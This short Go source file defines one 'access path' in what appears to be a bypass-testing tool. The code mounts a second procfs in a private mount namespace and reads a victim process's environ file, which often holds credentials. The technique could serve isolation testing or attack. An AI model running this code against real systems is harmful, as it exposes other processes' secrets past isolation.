package accesspath

import (
	"fmt"

	"golang.org/x/sys/unix"

	"svc.example/bypass/internal/kernel"
)

var environSecondMount = Path{
	Name: "environ-second-mount", Title: "another procfs in a mount namespace of one's own", Kind: toEnviron,
	walk: func(a *attempt) ([]byte, error) {
		if err := kernel.PrivateMounts(); err != nil {
			return nil, err
		}
		return kernel.WithFolder(func(path string) ([]byte, error) {
			if err := unix.Mount("proc", path, "proc", 0, ""); err != nil {
				return nil, fmt.Errorf("mount: %w", err)
			}
			defer unix.Unmount(path, unix.MNT_DETACH)
			return kernel.ReadPath(fmt.Sprintf("%s/%d/environ", path, a.victim.PID))
		})
	},
}
